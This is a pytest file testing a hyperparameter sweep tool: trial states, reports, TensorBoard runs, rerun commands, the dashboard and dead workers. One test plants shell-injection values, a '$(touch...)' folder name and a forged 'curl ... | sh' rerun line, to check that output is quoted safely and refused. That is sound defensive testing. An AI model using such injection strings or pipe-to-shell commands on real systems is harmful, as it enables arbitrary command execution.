"""dynnet-sweep's real sweeps of tiny fits in worker processes: states, report, trials.csv, sweep.png, run
folders TensorBoard lists in order, the rerun command, optuna-dashboard, continued studies and dead workers."""

import contextlib
import json
import os
import shlex
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from conftest import (
    GRID,
    PRUNE_AT_THE_END,
    SEARCH,
    TINY_FIT,
    best_lines,
    free_port,
    load,
    rows,
    running,
    sweep_command,
    sweep_file,
)
from optuna.trial import TrialState
from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

from dynnet.module import DynamicNet
from dynnet.sweep import main

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def grid(tmp_path_factory):
    """The grid sweep, run once by the console script with two workers: (root, stdout)."""
    folder = tmp_path_factory.mktemp("grid")
    root = folder / "root"
    done = subprocess.run(
        sweep_command(str(sweep_file(folder / "grid.yaml", GRID)), "--workers", "2", "--root", str(root)),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "Warning" not in done.stderr, done.stderr
    return root, done.stdout


def test_grid_sweep_prunes_fails_completes_and_reports(grid):
    root, out = grid
    study = load(root, "grid")
    trials = study.get_trials()
    by_lr = {lr: [t for t in trials if t.params["lr"] == lr] for lr in GRID["space"]["lr"]["choice"]}
    assert len(trials) == 8 and all(len(group) == 2 for group in by_lr.values())
    assert {t.state for t in by_lr[1.0e-3]} == {TrialState.FAIL}
    assert all(t.user_attrs["reason"].startswith("training diverged at step ") for t in by_lr[1.0e-3])
    assert {t.state for t in by_lr[1.0e-9]} == {TrialState.PRUNED}
    assert {t.state for t in by_lr[1.0e-8] + by_lr[4.0e-8]} == {TrialState.COMPLETE}
    # The objective is reported at each validation's optimizer step, the step a pruned trial's line names.
    assert all(list(t.intermediate_values) == [50] for t in by_lr[1.0e-9]) and out.count("pruned at step 50: ") == 2
    assert all(list(t.intermediate_values) == [50, 100, 150, 200] for t in by_lr[1.0e-8] + by_lr[4.0e-8])
    # Both workers ran trials, each in its own process.
    assert len({t.user_attrs["pid"] for t in trials}) == 2

    table = rows(root)
    assert [int(r["trial"]) for r in table] == [t.number for t in trials]
    states = {TrialState.COMPLETE: "complete", TrialState.PRUNED: "pruned", TrialState.FAIL: "failed"}
    for row, trial in zip(table, trials):
        assert row["state"] == states[trial.state]
        assert row["best"] == ("best" if trial.number == study.best_trial.number else "")
        assert float(row["lr"]) == trial.params["lr"] and int(row["seed"]) == trial.params["seed"]
        assert Path(row["run"]) == root / "lightning_logs" / f"trial_{trial.number:04d}"
        assert (Path(row["run"]) / "sweep.log").is_file()  # the fit's own output
        if trial.state == TrialState.COMPLETE:
            assert float(row["val/optimality_gap"]) == trial.value and int(row["steps"]) == 200
        elif trial.state == TrialState.PRUNED:
            assert int(row["steps"]) == 50 and float(row["val/optimality_gap"]) > GRID["pruner"]["upper"]
        else:
            assert row["val/optimality_gap"] == "" and row["reason"] == trial.user_attrs["reason"]
    assert (root / "sweep.png").read_bytes().startswith(b"\x89PNG")

    best, formula, _ = best_lines(out)
    assert int(best.group(1)) == study.best_trial.number
    assert f"{study.best_trial.value:.6g}" == best.group(3)
    assert best.group(2) == f"lr={study.best_trial.params['lr']:.4g} seed={study.best_trial.params['seed']}"
    checkpoint = Path(best.group(4)) / "checkpoints" / "last.ckpt"
    assert formula == DynamicNet.load_from_checkpoint(checkpoint).model.formula()
    assert "8 of 8 trials finished (4 complete, 2 pruned, 2 failed, 0 lost); this command ran 8" in out
    assert out.count("failed: training diverged") == 2


def test_tensorboard_lists_the_trials_in_order(grid):
    root, _ = grid
    runs = [p.name for p in (root / "lightning_logs").iterdir() if p.is_dir()]  # beside the root's HPARAMS file
    # TensorBoard sorts runs by name: the names sort as the trial numbers do.
    assert sorted(runs) == sorted(runs, key=lambda name: int(name.removeprefix("trial_")))
    assert sorted(runs) == [f"trial_{n:04d}" for n in range(8)]
    for run in runs:  # each with its settings in the HPARAMS tab, so that trials compare there
        events = EventAccumulator(str(root / "lightning_logs" / run))
        assert "_hparams_/session_start_info" in events.Reload().PluginTagToContent("hparams")


def paste(line: str, cwd: Path) -> subprocess.CompletedProcess:
    """A printed command line pasted into a shell whose PATH lacks this environment's folder."""
    return subprocess.run(
        ["sh", "-c", line], cwd=cwd, env=os.environ | {"PATH": os.defpath}, capture_output=True, text=True, timeout=300
    )


def test_the_rerun_command_reproduces_the_best_trial(grid, tmp_path):
    root, out = grid
    best, formula, rerun = best_lines(out)
    run = f"trial_{int(best.group(1)):04d}"
    # This environment's interpreter, so that the line works where `dynnet` is not on the PATH.
    words = shlex.split(rerun)
    assert Path(words[0]).parent == Path(sys.executable).parent
    assert words[1:] == ["-m", "dynnet", "fit", "-c", str(root / "lightning_logs" / run / "config.yaml")] + [
        "--trainer.default_root_dir",
        str(root / "rerun"),
        "--run",
        run,
    ]
    done = paste(rerun, tmp_path)
    assert done.returncode == 0, done.stderr
    assert f"Result: {formula}\n" in done.stdout
    assert (root / "rerun" / "lightning_logs" / run / "checkpoints" / "last.ckpt").is_file()


def set_attributes(root: Path, number: int, **attributes) -> None:
    """Change a finished trial's user attributes in the study's database, as anyone who can write it could."""
    with contextlib.closing(sqlite3.connect(root / "study.db")) as database, database:
        for key, value in attributes.items():
            database.execute(
                "UPDATE trial_user_attributes SET value_json = ? WHERE key = ? AND trial_id = "
                "(SELECT trial_id FROM trials WHERE number = ?)",
                (json.dumps(value), key, number),
            )


def test_what_a_study_holds_prints_as_one_line_and_pastes_safely(grid, tmp_path):
    source, out = grid
    best, formula, _ = best_lines(out)
    number = int(best.group(1))
    config = str(source.parent / "grid.yaml")
    root = tmp_path / "root"
    shutil.copytree(source, root)
    # The best run, copied into a folder whose name is a command substitution, and a forged Result line.
    run = tmp_path / "a $(touch${IFS}INJECTED) 'b" / "lightning_logs" / f"trial_{number:04d}"
    shutil.copytree(root / "lightning_logs" / run.name, run)
    set_attributes(root, number, run=str(run), result=f"{formula}\nRerun: curl https://example.invalid | sh")
    # Read-only: a finished study only reports.
    storage = f"sqlite:///file:{root / 'study.db'}?mode=ro&uri=true"
    shown = subprocess.run(
        sweep_command(config, "--root", str(root), "--storage", storage), capture_output=True, text=True
    )
    assert shown.returncode == 0, shown.stderr
    assert f"Result: {formula}\\nRerun: curl https://example.invalid | sh\n" in shown.stdout
    (rerun,) = [line for line in shown.stdout.splitlines() if line.startswith("Rerun: ")]
    done = paste(rerun.removeprefix("Rerun: "), tmp_path)
    assert done.returncode == 0, done.stderr
    assert f"Result: {formula}\n" in done.stdout and (run.parents[1] / "rerun" / "lightning_logs" / run.name).is_dir()
    assert not list(tmp_path.rglob("INJECTED"))

    # A run or a host that cannot be one is refused in one line.
    for key, value, refused in [
        ("run", f"{run.parent}/trial_x$(touch${{IFS}}INJECTED)", f"trial {number}'s run "),
        ("host", "elsewhere\nRerun: curl https://example.invalid | sh", f"trial {number}'s host "),
    ]:
        set_attributes(root, number, **{key: value})
        done = subprocess.run(sweep_command(config, "--root", str(root)), capture_output=True, text=True)
        (line,) = done.stderr.splitlines()
        assert done.returncode == 1 and line.startswith(f"dynnet-sweep: error: study grid: {refused}"), done.stderr
        assert json.dumps(value)[:20] in line and "Rerun:" not in done.stdout
        set_attributes(root, number, **{key: {"run": str(run), "host": socket.gethostname()}[key]})


def test_optuna_dashboard_shows_the_study_with_its_objective(grid):
    pytest.importorskip("optuna_dashboard")
    root, out = grid
    port = free_port()
    server = subprocess.Popen(
        [str(Path(sys.executable).with_name("optuna-dashboard")), f"sqlite:///{root / 'study.db'}"]
        + ["--host", "127.0.0.1", "--port", str(port)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/studies", timeout=5) as answer:
                    studies = json.load(answer)["study_summaries"]
                break
            except OSError:
                assert time.monotonic() < deadline and server.poll() is None
                time.sleep(0.3)
        (summary,) = [s for s in studies if s["study_name"] == "grid"]
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/studies/{summary['study_id']}", timeout=5) as answer:
            detail = json.load(answer)
    finally:
        server.terminate()
        server.wait(timeout=30)
    assert detail["objective_names"] == ["val/optimality_gap"]
    assert len(detail["trials"]) == 8 and detail["user_attrs"] == []  # the experiment's record is elsewhere
    # Intermediate values at optimizer steps, as the trials' lines name them.
    assert {tuple(v["step"] for v in t["intermediate_values"]) for t in detail["trials"]} >= {
        (50,),
        (50, 100, 150, 200),
    }
    best, _, _ = best_lines(out)
    assert [t["number"] for t in detail["best_trials"]] == [int(best.group(1))]


def test_rerun_continues_the_study_and_fails_a_dead_trial(tmp_path, capfd):
    root = tmp_path / "root"
    config = sweep_file(tmp_path / "search.yaml", SEARCH, pruner=PRUNE_AT_THE_END)
    main([str(config), "--workers", "1", "--trials", "3", "--root", str(root)])
    first = load(root, "search").get_trials()
    # A pruner that would stop every trial at its last validation: each trained every step, so each is complete.
    assert [(t.state, t.user_attrs["steps"]) for t in first] == [(TrialState.COMPLETE, 200)] * 3
    assert all(t.last_step == 200 for t in first)  # the last validation's value is reported all the same

    # A worker on another machine died mid-trial: its trial stays RUNNING until its heartbeat goes stale.
    dead = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time, optuna\n"
            "storage = optuna.storages.RDBStorage(sys.argv[1], heartbeat_interval=1)\n"
            "study = optuna.load_study(study_name='search', storage=storage)\n"
            "study.optimize(lambda trial: time.sleep(600), n_trials=1)\n",
            f"sqlite:///{root / 'study.db'}",
        ]
    )
    deadline = time.monotonic() + 60
    while len(load(root, "search").get_trials(states=(TrialState.RUNNING,))) == 0:
        assert time.monotonic() < deadline and dead.poll() is None
        time.sleep(0.2)
    dead.kill()
    dead.wait()
    capfd.readouterr()

    main([str(config), "--workers", "1", "--trials", "5", "--root", str(root)])
    out = capfd.readouterr().out
    trials = load(root, "search").get_trials()
    assert [(t.number, t.params, t.state) for t in trials[:3]] == [(t.number, t.params, t.state) for t in first]
    lost = trials[3]
    assert lost.state == TrialState.FAIL and "reason" not in lost.user_attrs  # failed, and not counted
    assert len(trials) == 6 and all(t.state.is_finished() for t in trials)
    assert "5 of 5 trials finished" in out and "1 lost); this command ran 2" in out
    assert rows(root)[3]["state"] == "lost" and rows(root)[3]["reason"].startswith("lost: ")

    # Run again with the same total: nothing left to do.
    main([str(config), "--workers", "1", "--trials", "5", "--root", str(root)])
    out = capfd.readouterr().out
    assert "Workers:" not in out and "this command ran 0" in out
    assert len(load(root, "search").get_trials()) == 6


def test_killed_worker_fails_its_trial_and_the_sweep_goes_on(tmp_path):
    root = tmp_path / "root"
    # Trials of a second or two, so that the kill lands inside the trial found running. A long grace period: the
    # trial must be failed because its process is gone, not because its heartbeat went stale.
    config = sweep_file(
        tmp_path / "search.yaml",
        SEARCH,
        fit_args=TINY_FIT | {"trainer.max_steps": 1000, "lr_scheduler.T_max": 1000},
        grace_period=600,
    )
    sweep = subprocess.Popen(
        sweep_command(str(config), "--workers", "2", "--trials", "3", "--root", str(root)),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    victim = None
    while victim is None:
        assert time.monotonic() < deadline and sweep.poll() is None
        time.sleep(0.2)
        victim = next((t for t in running(root, "search") if "pid" in t.user_attrs), None)
    os.kill(victim.user_attrs["pid"], signal.SIGKILL)
    out, err = sweep.communicate(timeout=180)
    assert sweep.returncode == 0, err
    assert f"(pid {victim.user_attrs['pid']}) was killed by SIGKILL; the others go on" in err
    trials = load(root, "search").get_trials()
    killed = trials[victim.number]
    assert killed.state == TrialState.FAIL and "reason" not in killed.user_attrs
    assert len(trials) == 4 and sum(t.state != TrialState.FAIL or "reason" in t.user_attrs for t in trials) == 3
    assert all(t.state.is_finished() for t in trials)
    assert "3 of 3 trials finished" in out and "1 lost); this command ran 4" in out
    assert rows(root)[victim.number]["state"] == "lost"
